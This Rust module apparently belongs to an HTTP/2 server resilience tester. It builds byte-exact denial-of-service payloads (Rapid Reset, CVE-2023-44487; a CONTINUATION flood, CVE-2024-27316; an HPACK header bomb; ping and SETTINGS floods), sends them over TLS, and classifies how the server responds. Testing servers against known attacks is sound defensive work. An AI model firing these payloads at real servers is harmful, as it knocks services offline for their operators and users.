//! HTTP/2 frames as no honest client sends them, byte by byte.

use std::time::Duration;

use bytes::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `:method GET`, `:scheme https`, `:path /`, `:authority x`, from the static table (RFC 7541, appendix A).
const HEAD: &[u8] = &[0x82, 0x87, 0x84, 0x41, 1, b'x'];
/// How long an attacker that is not read any more keeps trying.
const PATIENCE: Duration = Duration::from_secs(2);

/// What an attack got.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Answer {
    /// GOAWAY with this error code (RFC 9113, section 7).
    GoAway(u32),
    /// RST_STREAM with this error code.
    Reset(u32),
    /// Headers: an answer, such as 431.
    Headers,
    /// The connection was closed without a word.
    Closed,
    /// Neither; the server has stopped reading, or is content.
    Held,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

fn beginning() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// CVE-2023-44487: opens streams and resets each at once.
pub(crate) fn rapid_reset() -> Vec<u8> {
    let pairs = (0..2_000_u32).flat_map(|n| {
        let head = frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, HEAD);
        [head, frame(RST_STREAM, 0, 2 * n + 1, &8_u32.to_be_bytes())].concat()
    });
    beginning().into_iter().chain(pairs).collect()
}

/// A head of a few kilobytes that unfolds to 16 MiB: one large entry of the dynamic table, named again and again.
pub(crate) fn header_bomb() -> Vec<u8> {
    let entry = [&[0x40, 1, b'a', 0x7f, 0x81, 0x1e][..], &[b'x'; 4_000]].concat();
    let named: Vec<u8> = std::iter::repeat_n(0xbe, 4_000).collect();
    let block = [HEAD, &entry, &named].concat();
    [beginning(), frame(HEADERS, END_HEADERS | END_STREAM, 1, &block)].concat()
}

/// CVE-2024-27316: a head that never ends.
pub(crate) fn continuation_flood() -> Vec<u8> {
    let field = [&[0x00, 1, b'a', 0x7f, 0x81, 0x06][..], &[b'x'; 1_024]].concat();
    let more = (0..10_000).flat_map(|_| frame(CONTINUATION, 0, 1, &field));
    beginning().into_iter().chain(frame(HEADERS, END_STREAM, 1, HEAD)).chain(more).collect()
}

/// A piece of a flood of frames each of which is to be answered, by a client that reads no answer.
pub(crate) fn pings() -> Vec<u8> {
    (0..1_000).flat_map(|_| frame(PING, 0, 0, b"answerme")).collect()
}

/// The same with settings.
pub(crate) fn settings() -> Vec<u8> {
    (0..1_900).flat_map(|_| frame(SETTINGS, 0, 0, &[])).collect()
}

/// Sends an attack and reads, at the same time, what comes back; the first telling answer. Pings and settings tell
/// nothing.
pub(crate) async fn attack(stream: TlsStream<TcpStream>, bytes: Bytes, wait: Duration) -> Answer {
    let (mut read, mut write) = tokio::io::split(stream);
    let sending = tokio::spawn(async move {
        // It may be closed under us.
        let _closed = write.write_all(&bytes).await;
        let _closed = write.flush().await;
        write
    });
    let reading = async {
        loop {
            let mut head = [0; 9];
            if read.read_exact(&mut head).await.is_err() {
                return Answer::Closed;
            }
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
            let mut payload = vec![0; length as usize];
            if read.read_exact(&mut payload).await.is_err() {
                return Answer::Closed;
            }
            let code = |at: usize| u32::from_be_bytes(payload[at..at + 4].try_into().unwrap());
            match head[3] {
                GOAWAY => return Answer::GoAway(code(4)),
                // Of a stream that we reset ourselves nothing is learnt.
                RST_STREAM => return Answer::Reset(code(0)),
                HEADERS => return Answer::Headers,
                _ => {}
            }
        }
    };
    let answer = tokio::time::timeout(wait, reading).await.unwrap_or(Answer::Held);
    sending.abort();
    answer
}

/// More than the kernel holds of what the server does not read, 4 MiB here and 6 MiB there.
pub(crate) const FLOOD_BYTES: usize = 32 * 1024 * 1024;

/// Sends this again and again and never reads: how much was taken until the server read no more, or closed.
pub(crate) async fn flood(mut stream: TlsStream<TcpStream>, piece: Bytes) -> usize {
    let mut sent = 0;
    let sending = async {
        if stream.write_all(&beginning()).await.is_err() {
            return;
        }
        while sent < FLOOD_BYTES && stream.write_all(&piece).await.is_ok() && stream.flush().await.is_ok() {
            sent += piece.len();
        }
    };
    let _held = tokio::time::timeout(PATIENCE, sending).await;
    sent
}
